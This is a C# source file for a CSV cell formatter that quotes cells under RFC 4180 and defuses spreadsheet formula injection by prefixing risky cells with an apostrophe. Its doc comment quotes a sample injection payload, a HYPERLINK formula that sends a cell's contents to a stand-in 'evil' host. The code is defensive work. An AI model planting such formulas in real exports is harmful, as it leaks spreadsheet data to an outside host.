using System.Buffers;
using System.Globalization;

namespace AiCostGuard;

/// <summary>
/// Writes CSV cells that a spreadsheet opens as data: RFC 4180 quoting, and text that a spreadsheet would run as a
/// formula neutralized, as OWASP's CSV injection guidance prescribes. Every CSV the library and the <c>aicostguard</c>
/// tool write (<see cref="FocusExport"/>, the report's CSV) goes through it.
/// </summary>
/// <remarks>
/// <para>Model ids, attribution values and tags come from callers and providers: a cell such as
/// <c>=HYPERLINK("http://evil/"&amp;A1)</c> would run when the file is opened. A text cell that starts with <c>=</c>,
/// <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return is written with a leading apostrophe (<c>'=HYPERLINK(...)</c>),
/// which spreadsheets show as text. A number (an invariant decimal such as <c>-0.25</c>) is written as it is.</para>
/// <para>A cell holding a comma, a double quote, a line feed or a carriage return is quoted and its quotes doubled, so a
/// bare carriage return never ends a row; rows end with CR LF. Thread-safe: it keeps no state.</para>
/// </remarks>
public static class CsvCell
{
    private static readonly SearchValues<char> FormulaStarts = SearchValues.Create("=+-@\t\r");
    private static readonly SearchValues<char> NeedsQuotes = SearchValues.Create(",\"\r\n");

    /// <summary>Formats one cell: neutralized when it would start a formula, quoted when it must be.</summary>
    /// <param name="value">The cell's text; <see langword="null"/> is an empty cell.</param>
    /// <returns>The cell as it goes between the commas.</returns>
    public static string Format(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return string.Empty;
        }

        if (FormulaStarts.Contains(value[0]) && !IsNumber(value))
        {
            value = "'" + value;
        }

        return value.AsSpan().ContainsAny(NeedsQuotes)
            ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""
            : value;
    }

    /// <summary>Writes one row: its cells formatted by <see cref="Format"/>, separated by commas, ended by CR LF.</summary>
    /// <param name="writer">Where the row goes.</param>
    /// <param name="cells">The cells, in column order.</param>
    /// <exception cref="ArgumentNullException">An argument is <see langword="null"/>.</exception>
    public static void WriteRow(TextWriter writer, IEnumerable<string?> cells)
    {
        ArgumentNullException.ThrowIfNull(writer);
        ArgumentNullException.ThrowIfNull(cells);
        bool first = true;
        foreach (string? cell in cells)
        {
            if (!first)
            {
                writer.Write(',');
            }

            writer.Write(Format(cell));
            first = false;
        }

        writer.Write("\r\n");
    }

    // Only plain invariant numbers pass: "1e5" or "-1,5" are text, and text starting with '-' or '+' is neutralized.
    private static bool IsNumber(string value) =>
        value.Length > 1 && value[0] is '-' or '+'
        && char.IsAsciiDigit(value[1])
        && decimal.TryParse(value, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _);
}
